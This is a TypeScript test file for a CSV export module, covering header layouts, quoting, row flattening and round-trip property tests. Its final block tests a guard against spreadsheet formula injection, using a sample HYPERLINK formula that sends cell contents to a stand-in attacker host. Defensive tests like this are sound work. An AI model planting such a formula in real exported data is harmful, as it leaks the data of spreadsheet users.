import { parse } from 'csv-parse/sync';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvHeader, csvRows } from '../../../functions/records/schemas/csv.ts';
import type { DataRecord, RecordType } from '../../../functions/records/schemas/schema.ts';
import { SCHEMAS } from '../../../functions/records/schemas/schemas.ts';
import { VIEWS, type View, viewNamed } from '../../../functions/records/schemas/view.ts';
import { recordOf } from './record-arbitrary.ts';

function named(type: RecordType, name: string): View {
  const view = viewNamed(type, name);
  if (view === undefined) throw new Error(`no view ${name}`);
  return view;
}

/** The rows as objects, without empty cells. */
function read(view: View, record: DataRecord): Record<string, string>[] {
  const rows: string[][] = parse([csvHeader(view), ...csvRows(record, view, 'raw')].join('\n'));
  const [header = [], ...cells] = rows;
  return cells.map((row) =>
    Object.fromEntries(row.map((cell, at) => [header[at] ?? '', cell]).filter(([, cell]) => cell !== '')),
  );
}

const PRODUCT: DataRecord = {
  brand: 'Acme "Gold", Inc.',
  categories: ['Tools', 'Home, Garden'],
  manufacturer: 'Acme\nWorks',
  name: 'Hammer',
  prices: [
    { amountMin: 1.5, amountMax: 2, isSale: 'true', sourceURLs: ['http://a', 'http://b'] },
    { amountMin: 3, currency: 'USD' },
  ],
  sourceURLs: ['http://a', 'http://b', 'http://c'],
  upc: '00123',
  id: 'p-1',
};

describe('the header', () => {
  it('of products_pricesFlat is exactly the published one', () => {
    expect(csvHeader(named('products', 'products_pricesFlat'))).toBe(
      'id,asins,brand,categories,colors,count,dateAdded,dateUpdated,descriptions,dimension,ean,features,flavors,' +
        'imageURLs,isbn,keys,manufacturer,manufacturerNumber,merchants,name,prices.amountMin,prices.amountMax,' +
        'prices.availability,prices.color,prices.condition,prices.count,prices.currency,prices.dateAdded,' +
        'prices.dateSeen,prices.flavor,prices.isSale,prices.merchant,prices.offer,prices.returnPolicy,' +
        'prices.shipping,prices.size,prices.source,prices.sourceURLs,prices.warranty,quantities,reviews,sizes,skus,' +
        'sourceURLs,upc,vin,websiteIDs,weight',
    );
  });

  it('of products_basicFields is exactly the published one', () => {
    expect(csvHeader(named('products', 'products_basicFields'))).toBe(
      'id,brand,categories,manufacturer,name,sourceURLs',
    );
  });

  it('opens only the flat field of a flat view, and every object field of a full one', () => {
    const flat = csvHeader(named('businesses', 'businesses_all_reviewsFlat')).split(',');
    expect(flat).toContain('reviews.date');
    expect(flat).toContain('menus');
    const full = csvHeader(named('businesses', 'businesses_all')).split(',');
    expect(full).toContain('menus.amountMin');
    expect(full).not.toContain('menus');
  });

  it('keeps the declared order where it is not sorted', () => {
    const full = csvHeader(named('properties', 'properties_all'));
    expect(full).toContain(',floorSizeValue,floorSizeUnit,');
    expect(full).toContain(',prices.amountMin,prices.amountMax,');
    expect(full).toContain(',fees.amountMax,fees.amountMin,');
  });
});

describe('rows', () => {
  it('quote strings, double quotes inside, leave numbers bare and missing cells empty', () => {
    const view = named('businesses', 'businesses_basic');
    const record = { latitude: -97.7, longitude: '12.50', name: 'Joe "the" Bar\nGrill', postalCode: '00123', id: 'b' };
    expect(csvRows(record, view, 'raw')).toEqual(['"b",,,,,-97.7,"12.50","Joe ""the"" Bar\nGrill","00123",,,']);
  });

  it('nest several values in one cell: scalars joined by commas, objects as JSON', () => {
    const [row] = read(named('products', 'products_all_nested'), PRODUCT);
    expect(row).toEqual({
      id: 'p-1',
      brand: 'Acme "Gold", Inc.',
      categories: 'Tools,Home, Garden',
      manufacturer: 'Acme\nWorks',
      name: 'Hammer',
      prices: JSON.stringify(PRODUCT['prices']),
      sourceURLs: 'http://a,http://b,http://c',
      upc: '00123',
    });
  });

  it('of a flat view repeat the record for each element', () => {
    const { prices: _prices, ...rest } = read(named('products', 'products_all_nested'), PRODUCT)[0] ?? {};
    expect(read(named('products', 'products_pricesFlat'), PRODUCT)).toEqual([
      {
        ...rest,
        'prices.amountMin': '1.5',
        'prices.amountMax': '2',
        'prices.isSale': 'true',
        'prices.sourceURLs': 'http://a,http://b',
      },
      { ...rest, 'prices.amountMin': '3', 'prices.currency': 'USD' },
    ]);
  });

  it('of a flat view are one with empty cells when there is no element', () => {
    expect(read(named('products', 'products_reviewsFlat'), { name: 'Hammer', id: 'x' })).toEqual([
      { name: 'Hammer', id: 'x' },
    ]);
  });

  it('of basicFields are one per source URL', () => {
    const view = named('products', 'products_basicFields');
    const basics = {
      id: 'p-1',
      brand: 'Acme "Gold", Inc.',
      categories: 'Tools,Home, Garden',
      manufacturer: 'Acme\nWorks',
      name: 'Hammer',
    };
    expect(read(view, PRODUCT)).toEqual(
      ['http://a', 'http://b', 'http://c'].map((url) => ({ ...basics, sourceURLs: url })),
    );
    expect(csvRows({ name: 'x', id: 'y' }, view, 'raw')).toEqual(['"y",,,,"x",']);
  });

  it('of a full view are as many as the longest array, ended arrays empty, single values repeated', () => {
    const single = { id: 'p-1', brand: 'Acme "Gold", Inc.', manufacturer: 'Acme\nWorks', name: 'Hammer', upc: '00123' };
    expect(read(named('products', 'products_all'), PRODUCT)).toEqual([
      {
        ...single,
        categories: 'Tools',
        'prices.amountMin': '1.5',
        'prices.amountMax': '2',
        'prices.isSale': 'true',
        'prices.sourceURLs': 'http://a,http://b',
        sourceURLs: 'http://a',
      },
      {
        ...single,
        categories: 'Home, Garden',
        'prices.amountMin': '3',
        'prices.currency': 'USD',
        sourceURLs: 'http://b',
      },
      { ...single, sourceURLs: 'http://c' },
    ]);
    expect(csvRows({ name: 'x', id: 'y' }, named('products', 'products_all'), 'raw')).toHaveLength(1);
  });
});

describe.each([...VIEWS])('$name in CSV', (view) => {
  it('reads back as it was, in rows as wide as the header', () => {
    fc.assert(
      fc.property(recordOf(SCHEMAS[view.type]), (record) => {
        const lines = [csvHeader(view), ...csvRows(record, view, 'raw')];
        const rows: string[][] = parse(lines.join('\n'), { relax_column_count: true });
        expect(rows).toHaveLength(lines.length);
        for (const row of rows) expect(row).toHaveLength(view.columns.length + 1);
        for (const row of rows.slice(1)) expect(row[0]).toBe(record.id);
        for (const field of view.fields) expect(valuesIn(rows, view, field)).toEqual(expectedOf(record, view, field));
      }),
    );
  });
});

/** The cells of a field over all rows, each sub-field by itself, without the empty ones. */
function valuesIn(rows: readonly string[][], view: View, field: string): string[] {
  const columns = view.columns.flatMap((column, at) => (column.field === field ? [at + 1] : []));
  return columns.flatMap((at) => rows.slice(1).map((row) => row[at] ?? '')).filter((cell) => cell !== '');
}

function expectedOf(record: DataRecord, view: View, field: string): string[] {
  const value = record[field];
  const height = csvRows(record, view, 'raw').length;
  if (value === undefined) return [];
  if (typeof value !== 'object') return Array.from({ length: height }, () => String(value));
  const isOpen = view.layout.kind === 'spread' || (view.layout.kind === 'flat' && view.layout.field === field);
  const isOfObjects = typeof value[0] === 'object';
  if (!isOpen)
    return Array.from({ length: height }, () => (isOfObjects ? JSON.stringify(value) : value.map(String).join(',')));
  if (!isOfObjects) return value.map(String);
  const subs = view.columns.filter((column) => column.field === field).map(({ sub = '' }) => sub);
  return subs.flatMap((sub) =>
    value.flatMap((element) => {
      const inner = typeof element === 'object' ? element[sub] : undefined;
      return inner === undefined ? [] : [typeof inner === 'object' ? inner.join(',') : String(inner)];
    }),
  );
}

describe('a cell that a spreadsheet would run as a formula', () => {
  const view = named('businesses', 'businesses_all');
  const attack = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
  const first = (cells: readonly string[]) => cells[0]!;

  it.each([attack, '+1+cmd', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '＝1+1'])('%j begins with an apostrophe', (name) => {
    const [header = [], row = []]: string[][] = parse(
      [csvHeader(view), ...csvRows({ name, id: name }, view, 'guarded')].join('\n'),
    );
    expect([first(row), row[header.indexOf('name')]]).toEqual([`'${name}`, `'${name}`]);
    const [, raw = []]: string[][] = parse([csvHeader(view), ...csvRows({ name, id: name }, view, 'raw')].join('\n'));
    expect(first(raw)).toBe(name);
  });

  it('is guarded in every layout and in lists', () => {
    const record: DataRecord = { categories: [attack, 'b'], reviews: [{ text: attack }], id: 'x' };
    for (const name of ['businesses_all', 'businesses_all_nested', 'businesses_all_reviewsFlat']) {
      const rows: string[][] = parse(csvRows(record, named('businesses', name), 'guarded').join('\n'));
      const formulas = rows.flat().filter((text) => /^[=+\-@]/.test(text));
      expect([name, formulas]).toEqual([name, []]);
      expect(rows.flat().some((text) => text.startsWith("'="))).toBe(true);
    }
  });

  it('is no number', () => {
    for (const phone of ['+4930123456', '-73.98', '+1']) {
      expect(csvRows({ name: phone, id: 'x' }, view, 'guarded').join()).not.toContain("'");
    }
  });
});
